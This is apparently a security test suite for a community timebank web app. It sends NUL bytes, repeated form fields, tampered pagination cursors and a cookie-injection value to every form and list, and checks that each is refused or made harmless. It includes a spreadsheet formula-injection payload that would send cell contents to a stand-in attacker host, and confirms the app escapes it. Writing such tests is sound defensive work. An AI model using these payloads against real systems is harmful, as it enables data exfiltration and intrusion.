// Input an attacker (or a broken client) sends: NUL characters, repeated fields, altered
// cursors, formulas meant for a spreadsheet. Each is refused with a 400 or made harmless, and
// none is ever a 500. The form walk signs in as each role, opens every page it may, and sends
// every form on it back with the hostile variants.
import { parse as parseCsv } from 'csv-parse/sync';
import { parse as parseHtml } from 'node-html-parser';
import { and, eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { memberships } from '../../src/platform/db/schema.ts';
import { roles } from '../../src/platform/tenancy.ts';
import { useFixtureApp } from '../support/app.ts';
import { Visitor } from '../support/browser-like.ts';
import { callers } from '../support/callers.ts';
import { fixturePassword } from '../support/fixtures.ts';
import { concretePath, expected, pathValues } from '../support/route-walk.ts';

const given = useFixtureApp({ SIGN_IN_RATE_LIMIT: '100000' });
const { tokenFor, call } = callers(() => given.test.app);
const today = () => new Date().toISOString().slice(0, 10);

interface Form {
  page: string;
  action: string;
  fields: [string, string][];
}

/** The forms of a page that post to this site, with the values a browser would send. */
function formsOn(page: string, html: string): Form[] {
  const root = parseHtml(html);
  return root
    .querySelectorAll('form')
    .filter((form) => (form.getAttribute('method') ?? 'get').toLowerCase() === 'post')
    .map((form) => {
      const action = new URL(form.getAttribute('action') || page, `http://localhost${page}`);
      const fields: [string, string][] = [];
      for (const field of form.querySelectorAll('input, textarea, select')) {
        const name = field.getAttribute('name');
        if (!name) continue;
        const type = (field.getAttribute('type') ?? '').toLowerCase();
        if (field.tagName === 'SELECT')
          fields.push([
            name,
            field.querySelector('option[selected]')?.getAttribute('value') ??
              field.querySelector('option')?.getAttribute('value') ??
              '',
          ]);
        else if (field.tagName === 'TEXTAREA') fields.push([name, field.textContent || 'Some words']);
        else if (type === 'checkbox' || type === 'radio') {
          if (field.hasAttribute('checked') || !fields.some(([other]) => other === name))
            fields.push([name, field.getAttribute('value') ?? 'on']);
        } else if (type !== 'submit' && type !== 'button')
          fields.push([name, field.getAttribute('value') ?? (type === 'email' ? 'someone@example.org' : 'Some words')]);
      }
      return { page, action: action.host === 'localhost' ? `${action.pathname}${action.search}` : '', fields };
    })
    .filter((form) => form.action && form.action !== '/sign-out');
}

function bodyOf(fields: [string, string][]): Record<string, string[]> {
  const body: Record<string, string[]> = {};
  for (const [name, value] of fields) (body[name] ??= []).push(value);
  return body;
}

describe('NUL characters', () => {
  it('in a JSON body, a query string or a path answer 400 with the field named, and change nothing', async () => {
    const token = await tokenFor('coordinator@alpha.test');
    const { alphaTimebankMemberId, alphaPersonId, alphaCategoryId } = given.fixture;
    const countExchanges = async () =>
      (
        await given.test.database.owner.execute<{ count: number }>(
          sql`select count(*)::int as count from timebank_exchanges`,
        )
      ).rows[0]?.count;
    const before = await countExchanges();
    const exchange = await call(token, 'POST', '/api/v1/communities/alpha/timebank/exchanges', {
      giver: alphaTimebankMemberId,
      receiver: alphaPersonId,
      minutes: 60,
      occurredOn: today(),
      categoryId: alphaCategoryId,
      note: 'Weeding\u0000',
    });
    expect(exchange.statusCode).toBe(400);
    expect(exchange.json()).toMatchObject({
      code: 'validation-failed',
      errors: [{ field: 'note', code: 'errors.generic.nulByte' }],
    });
    expect(await countExchanges()).toBe(before);
    for (const url of [
      '/api/v1/communities/alpha/timebank/offers?q=cafe%00',
      '/api/v1/communities/alpha/people?search=Ada%00',
      '/api/v1/communities/alpha/referrals?search=%00',
    ]) {
      expect((await call(token, 'GET', url.replace('%00', ''))).statusCode, `${url} without the NUL`).toBe(200);
      const response = await call(token, 'GET', url);
      expect(response.statusCode, url).toBe(400);
    }
    const coordinator = new Visitor(given.test.app);
    await coordinator.signIn('coordinator@alpha.test', fixturePassword);
    for (const url of [
      '/c/alpha/timebank/posts?q=cafe%00',
      '/c/alpha/people?search=%00Ada',
      `/c/alpha/people/${alphaPersonId}%00`,
    ]) {
      expect((await coordinator.get(url.replace('%00', ''))).statusCode, `${url} without the NUL`).toBe(200);
      const page = await coordinator.get(url);
      expect(page.statusCode, url).toBe(400);
      expect(page.body).toContain('There is a problem');
    }
  });
});

describe('repeated fields', () => {
  it('a language sent twice is refused with a message, and the language cookie holds only a language we speak', async () => {
    const member = new Visitor(given.test.app);
    await member.signIn('member@alpha.test', fixturePassword);
    const twice = await member.submit('/account', '/account/language', { language: ['en', 'cy'] });
    expect(twice.statusCode).toBe(400);
    expect(twice.body).toContain('Send this answer once');
    const unknown = await member.submit('/account', '/account/language', { language: 'xx"; Path=/evil' });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.cookies.find((cookie) => cookie.name === 'lang')).toBeUndefined();
    const welsh = await member.submit('/account', '/account/language', { language: 'cy' });
    expect(welsh.statusCode).toBe(303);
    expect(welsh.cookies.find((cookie) => cookie.name === 'lang')?.value).toBe('cy');
  });
});

describe('cursors', () => {
  it('an altered cursor on any list, page or API, is a 400 and never a 500', async () => {
    const token = await tokenFor('admin@alpha.test');
    const [waiting] = await given.test.database.owner
      .select({ id: memberships.id })
      .from(memberships)
      .where(and(eq(memberships.communityId, given.fixture.alpha.id), eq(memberships.status, 'requested')))
      .limit(1);
    const values = pathValues(given.fixture, waiting?.id ?? '');
    const id = '00000000-0000-4000-8000-000000000000';
    const altered = [
      { createdAt: 'not-a-date', id },
      { createdAt: '2026-02-31 10:00:00+00', id },
      { createdAt: '0000-01-01T00:00:00Z', id },
      { createdAt: '2026-01-01T00:00:00+05:99', id },
      { at: '2026-01-01T00:00:00+1599' },
      { name: 'Ada\u0000', id },
      { name: 'Ada', id: 'not-an-id' },
      { at: 'yesterday' },
      { rank: 'high', createdAt: '2026-01-01T00:00:00Z', id },
      { before: 1e300 },
      { slug: { $ne: null } },
      { id: 'x'.repeat(5000) },
      [],
      'text',
    ].map((position) => Buffer.from(JSON.stringify(position)).toString('base64url'));
    const lists = given.test.app.routeCatalogue.filter(
      (route) =>
        route.method === 'GET' &&
        route.url.startsWith('/api/v1/') &&
        JSON.stringify(
          route.schema?.querystring ? Object.keys((route.schema.querystring as { shape?: object }).shape ?? {}) : [],
        ).includes('cursor'),
    );
    expect(lists.length).toBeGreaterThan(8);
    const failures: string[] = [];
    for (const route of lists) {
      for (const cursor of [...altered, 'not base64 at all!', '%00']) {
        const response = await call(
          token,
          'GET',
          `${concretePath(route, values)}?cursor=${encodeURIComponent(cursor)}`,
        );
        if (response.statusCode >= 500) failures.push(`${route.url} with ${cursor}: ${response.statusCode}`);
      }
    }
    const admin = new Visitor(given.test.app);
    await admin.signIn('admin@alpha.test', fixturePassword);
    for (const page of [
      '/c/alpha/referrals',
      '/c/alpha/people',
      '/c/alpha/members',
      '/c/alpha/hub/caseload',
      '/c/alpha/timebank/posts',
    ]) {
      for (const cursor of altered) {
        const response = await admin.get(`${page}?cursor=${cursor}`);
        if (response.statusCode >= 500) failures.push(`${page} with ${cursor}: ${response.statusCode}`);
      }
    }
    expect(failures).toEqual([]);
    const referrals = await call(token, 'GET', `/api/v1/communities/alpha/referrals?cursor=${altered[0]}`);
    expect(referrals.statusCode).toBe(400);
    expect(referrals.json()).toMatchObject({ errors: [{ field: 'cursor' }] });
  });
});

describe('spreadsheet formulas', () => {
  it('a note written as a formula reaches the coordinator’s statement CSV as text', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const token = await tokenFor('coordinator@alpha.test');
    const { alphaTimebankMemberId, alphaPersonId, alphaCategoryId } = given.fixture;
    const recorded = await call(token, 'POST', '/api/v1/communities/alpha/timebank/exchanges', {
      giver: alphaTimebankMemberId,
      receiver: alphaPersonId,
      minutes: 45,
      occurredOn: today(),
      categoryId: alphaCategoryId,
      note: formula,
      confirmNow: true,
    });
    expect(recorded.statusCode).toBe(201);
    const coordinator = new Visitor(given.test.app);
    await coordinator.signIn('coordinator@alpha.test', fixturePassword);
    const csv = await coordinator.get(`/c/alpha/timebank/members/${alphaPersonId}/statement.csv`);
    expect(csv.statusCode).toBe(200);
    const rows = parseCsv(csv.body) as string[][];
    const notes = rows.map((row) => row[4]);
    expect(notes).toContain(`'${formula}`);
    expect(notes).not.toContain(formula);
  });
});

describe('every form, sent back hostile', () => {
  it('as every role: a NUL in every field is a 400, a repeated field is never a 500', async () => {
    const [waiting] = await given.test.database.owner
      .select({ id: memberships.id })
      .from(memberships)
      .where(and(eq(memberships.communityId, given.fixture.alpha.id), eq(memberships.status, 'requested')))
      .limit(1);
    const values = pathValues(given.fixture, waiting?.id ?? '');
    const people = [
      ...roles.map((role) => ({ email: given.fixture.emailFor(role), roles: [role], platformAdmin: false })),
      { email: given.fixture.platformAdmin, roles: [], platformAdmin: true },
    ];
    const failures: string[] = [];
    let sent = 0;
    const seen = new Set<string>();
    for (const person of people) {
      const visitor = new Visitor(given.test.app);
      await visitor.signIn(person.email, fixturePassword);
      const pages = given.test.app.routeCatalogue.filter(
        (route) =>
          route.method === 'GET' &&
          !route.url.startsWith('/api/') &&
          !route.url.startsWith('/fhir/') &&
          !route.url.includes('*') &&
          route.access &&
          expected(route.access, {
            name: 'walker',
            email: person.email,
            roles: person.roles,
            inCommunity: !person.platformAdmin,
            platformAdmin: person.platformAdmin,
          }) === 'allow',
      );
      const forms: Form[] = [];
      for (const route of pages) {
        const path = concretePath(route, values);
        const page = await visitor.get(path);
        if (page.statusCode !== 200 || !String(page.headers['content-type']).includes('text/html')) continue;
        for (const form of formsOn(path, page.body)) {
          const key = `${person.email} ${form.action} ${form.fields.map(([name]) => name).join(',')}`;
          if (seen.has(key)) continue;
          seen.add(key);
          forms.push(form);
        }
      }
      // First what changes nothing (a NUL is refused before any work), then the repeats.
      for (const form of forms) {
        const withNul = form.fields.map(([name, value]): [string, string] =>
          name === '_csrf' ? [name, value] : [name, `${value}\u0000`],
        );
        if (withNul.length === form.fields.filter(([name]) => name === '_csrf').length) continue;
        const response = await visitor.request('POST', form.action, { form: bodyOf(withNul) });
        sent += 1;
        if (response.statusCode !== 400)
          failures.push(`NUL to ${form.action} (from ${form.page}) as ${person.email}: ${response.statusCode}`);
      }
      for (const form of forms) {
        const repeatable = form.fields.filter(([name]) => name !== '_csrf' && name !== 'formKey');
        if (repeatable.length === 0) continue;
        const doubled = form.fields.flatMap(([name, value]): [string, string][] =>
          name === '_csrf' || name === 'formKey'
            ? [[name, value]]
            : [
                [name, value],
                [name, `${value}-again`],
              ],
        );
        const response = await visitor.request('POST', form.action, { form: bodyOf(doubled) });
        sent += 1;
        if (response.statusCode >= 500)
          failures.push(
            `repeated fields to ${form.action} (from ${form.page}) as ${person.email}: ${response.statusCode}`,
          );
      }
    }
    expect(failures).toEqual([]);
    expect(sent).toBeGreaterThan(100);
  }, 240_000);
});
